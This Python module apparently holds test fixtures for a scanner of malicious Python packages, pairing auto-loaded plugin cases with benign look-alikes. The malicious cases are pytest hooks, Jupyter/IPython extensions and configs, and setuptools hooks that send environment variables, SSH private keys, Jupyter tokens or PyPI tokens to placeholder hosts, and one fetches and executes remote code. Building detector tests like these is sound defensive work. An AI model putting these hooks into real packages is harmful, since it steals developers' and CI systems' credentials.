"""Plugins that another tool loads and calls by itself: pytest hooks and autouse fixtures,
Jupyter server extensions enabled by a shipped config file, Jupyter/IPython config files
installed under the prefix, setuptools hooks that run for every project built."""

from __future__ import annotations

from techniques import Case

SEND_ENV = (
    "    urllib.request.urlopen('https://p.x.invalid/c', "
    "data=json.dumps(dict(os.environ)).encode())\n"
)

CASES = [
    Case("pytest11 plugin whose pytest_configure hook sends the environment", "pytest-envsend", {
        "pytest_envsend/__init__.py": "",
        "pytest_envsend/plugin.py": (
            "import json, os, urllib.request\n\n\n"
            "def pytest_addoption(parser):\n"
            "    parser.addoption('--envsend-off', action='store_true')\n\n\n"
            "def pytest_configure(config):\n" + SEND_ENV
        ),
        "pytest_envsend-1.0.dist-info/entry_points.txt": (
            "[pytest11]\nenvsend = pytest_envsend.plugin\n"),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("pytest plugin with an autouse session fixture stealing the SSH key", "pytest-keyfix", {
        "pytest_keyfix.py": (
            "import os, pytest, requests\n\n\n"
            "@pytest.fixture(autouse=True, scope='session')\n"
            "def _warm_cache():\n"
            "    with open(os.path.expanduser('~/.ssh/id_rsa')) as fh:\n"
            "        requests.post('https://cache.x.invalid/w', data=fh.read())\n"
            "    yield\n"
        ),
        "pytest_keyfix-1.0.dist-info/entry_points.txt": "[pytest11]\nkeyfix = pytest_keyfix\n",
    }, "malicious", ("PV303",), kind="wheel"),
    Case("Jupyter server extension enabled by a shipped config file", "jpext", {
        "jpext/__init__.py": (
            "import json, os, urllib.request\n\n\n"
            "def _jupyter_server_extension_points():\n    return [{'module': 'jpext'}]\n\n\n"
            "def _load_jupyter_server_extension(serverapp):\n"
            "    token = serverapp.token\n"
            "    urllib.request.urlopen('https://j.x.invalid/t', data=json.dumps("
            "{'t': token, 'aws': os.environ.get('AWS_SECRET_ACCESS_KEY')}).encode())\n"
        ),
        "jpext-1.0.data/data/etc/jupyter/jupyter_server_config.d/jpext.json": (
            '{"ServerApp": {"jpserver_extensions": {"jpext": true}}}\n'),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("Python config file installed into the prefix's etc/jupyter", "jpconf", {
        "jpconf/__init__.py": "",
        "jpconf-1.0.data/data/etc/jupyter/jupyter_server_config.py": (
            "import urllib.request\n"
            "exec(urllib.request.urlopen('https://j.x.invalid/cfg').read())\n"
            "c.ServerApp.open_browser = False\n"
        ),
    }, "malicious", ("PV202",), kind="wheel"),
    Case("egg_info.writers hook runs for every project built", "eggwriter", {
        "eggwriter/__init__.py": "",
        "eggwriter/writers.py": (
            "import json, os, urllib.request\n\n\n"
            "def write_meta(cmd, basename, filename):\n" + SEND_ENV
        ),
        "eggwriter-1.0.dist-info/entry_points.txt": (
            "[egg_info.writers]\nmeta.json = eggwriter.writers:write_meta\n"),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("setuptools finalize_distribution_options hook in a setup.cfg", "finalizer", {
        "setup.py": "from setuptools import setup\n\nsetup()\n",
        "setup.cfg": ("[metadata]\nname = finalizer\nversion = 1.0\n\n[options]\n"
                      "packages = finalizer\n\n[options.entry_points]\n"
                      "setuptools.finalize_distribution_options =\n"
                      "    fin = finalizer.hooks:finalize\n"),
        "finalizer/__init__.py": "",
        "finalizer/hooks.py": (
            "import os, urllib.request\n\n\n"
            "def finalize(dist):\n"
            "    tok = os.environ.get('PYPI_TOKEN') or os.environ.get('TWINE_PASSWORD', '')\n"
            "    urllib.request.urlopen('https://f.x.invalid/?t=' + tok)\n"
        ),
    }, "malicious", ("PV303",)),
    Case("IPython extension enabled by a JSON config under etc/ipython", "ipyext", {
        "ipyext/__init__.py": (
            "import json, os, urllib.request\n\n\ndef load_ipython_extension(ip):\n"
            + SEND_ENV),
        "ipyext-1.0.data/data/etc/ipython/ipython_config.json": (
            '{"InteractiveShellApp": {"extensions": ["ipyext"]}}\n'),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("IPython config file installed under etc/ipython steals the SSH key", "ipyconf", {
        "ipyconf/__init__.py": "",
        "ipyconf-1.0.data/data/etc/ipython/ipython_config.py": (
            "import os, urllib.request\n"
            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n"),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("pytest11 plugin declared in setup.py's entry_points", "setup-pytest-plugin", {
        "setup.py": ("from setuptools import setup\n\nsetup(name='setup-pytest-plugin', "
                     "version='1.0', packages=['spplug'],\n"
                     "      entry_points={'pytest11': ['spplug = spplug.plugin']})\n"),
        "spplug/__init__.py": "",
        "spplug/plugin.py": ("import json, os, urllib.request\n\n\n"
                             "def pytest_sessionstart(session):\n" + SEND_ENV),
    }, "malicious", ("PV303",)),
    # benign look-alikes
    Case("pytest plugin: fixtures, an HTTP test server and an option", "pytest-httpd", {
        "pytest_httpd/__init__.py": "",
        "pytest_httpd/plugin.py": (
            "import os, subprocess, sys, pytest, requests\n\n\n"
            "def pytest_addoption(parser):\n"
            "    parser.addoption('--httpd-port', default='8765')\n\n\n"
            "def pytest_configure(config):\n"
            "    config.addinivalue_line('markers', 'httpd: needs the test server')\n\n\n"
            "@pytest.fixture(scope='session')\n"
            "def httpd(request):\n"
            "    port = request.config.getoption('--httpd-port')\n"
            "    proc = subprocess.Popen([sys.executable, '-m', 'http.server', port])\n"
            "    yield f'http://127.0.0.1:{port}'\n    proc.terminate()\n\n\n"
            "@pytest.fixture\ndef token():\n    return os.environ.get('GITHUB_TOKEN', '')\n\n\n"
            "@pytest.fixture\ndef get(httpd):\n"
            "    return lambda path: requests.get(httpd + path)\n"
        ),
        "pytest_httpd-1.0.dist-info/entry_points.txt": "[pytest11]\nhttpd = pytest_httpd.plugin\n",
    }, "benign", kind="wheel"),
    Case("Jupyter server extension registering handlers and reading its JSON", "jpok", {
        "jpok/__init__.py": (
            "import json, os\nfrom importlib import resources\n\n\n"
            "def _jupyter_server_extension_points():\n    return [{'module': 'jpok'}]\n\n\n"
            "def _load_jupyter_server_extension(serverapp):\n"
            "    settings = json.loads(resources.files('jpok').joinpath('defaults.json')"
            ".read_text())\n"
            "    web_app = serverapp.web_app\n"
            "    base = web_app.settings['base_url']\n"
            "    web_app.add_handlers('.*$', [(base + 'jpok/ping', object)])\n"
            "    serverapp.log.info('jpok loaded with %s', settings)\n"
        ),
        "jpok/defaults.json": '{"interval": 5}\n',
        "jpok-1.0.data/data/etc/jupyter/jupyter_server_config.d/jpok.json": (
            '{"ServerApp": {"jpserver_extensions": {"jpok": true}}}\n'),
    }, "benign", kind="wheel"),
    Case("sphinx extension: setup(app) adds a directive, fetches an inventory", "sphinxext", {
        "sphinxext_inv/__init__.py": (
            "import urllib.request\n\n\n"
            "def _fetch(app):\n"
            "    url = app.config.inv_url\n"
            "    if url:\n        urllib.request.urlopen(url).read()\n\n\n"
            "def setup(app):\n    app.add_config_value('inv_url', '', 'env')\n"
            "    app.connect('builder-inited', _fetch)\n"
            "    return {'parallel_read_safe': True}\n"
        ),
        "sphinxext_inv-1.0.dist-info/entry_points.txt": (
            "[sphinx.html_themes]\ninv = sphinxext_inv\n"),
    }, "benign", kind="wheel"),
    Case("IPython extension enabled by config that registers a magic", "ipymagic", {
        "ipymagic/__init__.py": (
            "import subprocess\n\n\ndef _sh(line):\n"
            "    return subprocess.run(line, shell=True, capture_output=True).stdout\n\n\n"
            "def load_ipython_extension(ip):\n"
            "    ip.register_magic_function(_sh, 'line', 'sh')\n"),
        "ipymagic-1.0.data/data/etc/ipython/ipython_config.json": (
            '{"InteractiveShellApp": {"extensions": ["ipymagic"]}}\n'),
    }, "benign", kind="wheel"),
]
